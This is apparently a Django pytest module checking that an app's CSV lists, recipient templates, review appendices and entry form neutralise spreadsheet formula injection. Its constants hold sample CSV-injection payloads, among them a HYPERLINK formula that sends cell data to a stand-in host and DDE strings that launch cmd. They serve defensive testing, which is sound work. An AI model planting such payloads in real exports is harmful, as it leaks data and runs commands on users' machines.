"""Every export the app writes (CSV lists, the recipient templates, the review's appendices,
the entry form) neutralises text a spreadsheet would run as a formula (DESIGN §6).

What users type is stored as typed; only the exports change it.
"""

import csv
import io

import pytest
from django.urls import reverse
from openpyxl import load_workbook

from awards.models import Commendation
from config.urls import api_router
from core.api import CSVListMixin
from indicators.models import Indicator
from tests.api_support import api_client, body
from tests.collection.support import build_province, officer
from tests.factories import (
    AreaFactory,
    AwardDecisionFactory,
    CareModelFactory,
    CommendationFactory,
    IndicatorFactory,
    MeasurementFactory,
    PartnerFactory,
)
from tests.reports.support import small_review

pytestmark = pytest.mark.django_db

HYPERLINK = '=HYPERLINK("http://evil.invalid/?"&A1,"x")'
DDE = "@SUM(1+1)*cmd|' /C calc'!A0"
PLUS = "+1+cmd|' /C calc'!A0"
MINUS = "-1+cmd|' /C calc'!A0"
TAB = "\t=1+1"


def csv_rows(client, route: str) -> list[dict]:
    response = client.get(route, {"format": "csv"})
    assert response.status_code == 200, body(response)[:300]
    return list(csv.DictReader(io.StringIO(body(response).decode("utf-8-sig"))))


def build_measurement():
    MeasurementFactory(note=HYPERLINK, value=7)
    return "/api/v1/measurements/", {"note": "'" + HYPERLINK, "value": "7"}


def build_commendation():
    CommendationFactory(name=DDE, position=PLUS, organisation=MINUS)
    return "/api/v1/commendations/", {
        "name": "'" + DDE,
        "position": "'" + PLUS,
        "organisation": "'" + MINUS,
    }


def build_care_model():
    CareModelFactory(name=PLUS, implementing_agency=TAB)
    return "/api/v1/care-models/", {"name": "'" + PLUS, "implementing_agency": "'" + TAB}


def build_partner():
    PartnerFactory(name=HYPERLINK)
    return "/api/v1/partners/", {"name": "'" + HYPERLINK}


def build_decision():
    AwardDecisionFactory(reason=DDE, signer_name=PLUS)
    return "/api/v1/award-decisions/", {"reason": "'" + DDE, "signer_name": "'" + PLUS}


def build_area():
    AreaFactory(code="X1", name=HYPERLINK)
    return "/api/v1/areas/", {"name": "'" + HYPERLINK}


def build_indicator():
    IndicatorFactory(name=MINUS)
    return "/api/v1/indicators/", {"name": "'" + MINUS}


@pytest.mark.parametrize(
    "build",
    [
        build_measurement,
        build_commendation,
        build_care_model,
        build_partner,
        build_decision,
        build_area,
        build_indicator,
    ],
)
def test_a_csv_list_writes_formula_like_text_neutralised(superuser, build):
    route, expected = build()

    rows = csv_rows(api_client(superuser), route)

    assert [{name: row[name] for name in expected} for row in rows if row["id"]][-1] == expected


def test_every_csv_list_goes_through_the_one_writer():
    """Each list answering CSV streams it through `CSVListMixin.list` (and so `csv_lines`)."""
    exporting = [
        viewset
        for _prefix, viewset, _basename in api_router.registry
        if issubclass(viewset, CSVListMixin)
    ]

    # Every list but the background jobs' own status (nothing a spreadsheet would hold).
    lists = [prefix for prefix, _viewset, _basename in api_router.registry if prefix != "jobs"]
    assert len(exporting) == len(lists)
    assert {viewset.list for viewset in exporting} == {CSVListMixin.list}


def test_names_are_stored_as_typed(superuser):
    build_commendation()

    assert Commendation.objects.values_list("name", flat=True).get() == DDE


def test_the_recipient_templates_hold_no_formula(admin_client):
    csv_text = admin_client.get(reverse("admin:awards_awarddecision_recipient_template_csv"))
    xlsx = admin_client.get(reverse("admin:awards_awarddecision_recipient_template_xlsx"))

    lines = list(csv.reader(io.StringIO(csv_text.content.decode("utf-8-sig"))))
    assert not [cell for line in lines for cell in line if cell and cell[0] in "=+-@\t\r"]
    workbook = load_workbook(io.BytesIO(xlsx.content))
    assert [
        c.coordinate for sheet in workbook for row in sheet for c in row if c.data_type == "f"
    ] == []


def test_the_review_appendices_keep_formula_like_names_as_text(superuser):
    phase = small_review()
    Indicator.objects.filter(objective__phase=phase).update(name=HYPERLINK)

    response = api_client(superuser).get(
        f"/api/v1/phases/{phase.pk}/review/", {"format": "xlsx", "area": "QP", "year": 2020}
    )

    assert response.status_code == 200
    sheet = load_workbook(io.BytesIO(response.content))["Biểu 01"]
    cells = [cell for row in sheet.iter_rows() for cell in row if cell.value == HYPERLINK]
    assert [(c.data_type, bool(c.quotePrefix)) for c in cells] == [("s", True)]
    assert [c.coordinate for c in sheet._cells.values() if c.data_type == "f"] == []


def test_the_entry_form_keeps_formula_like_names_as_text():
    world = build_province()
    Indicator.objects.filter(pk=world.count.pk).update(name=DDE)
    Indicator.objects.filter(pk=world.rate.pk).update(name=HYPERLINK)

    response = api_client(officer()).get(
        f"/api/v1/phases/{world.phase.pk}/entry-form/", {"area": "C11", "period": "2020"}
    )

    assert response.status_code == 200
    sheet = load_workbook(io.BytesIO(response.content))["C11"]
    names = [(c.value, c.data_type, bool(c.quotePrefix)) for c in sheet["B"][-2:]]
    assert names == [(DDE, "s", True), (HYPERLINK, "s", True)]
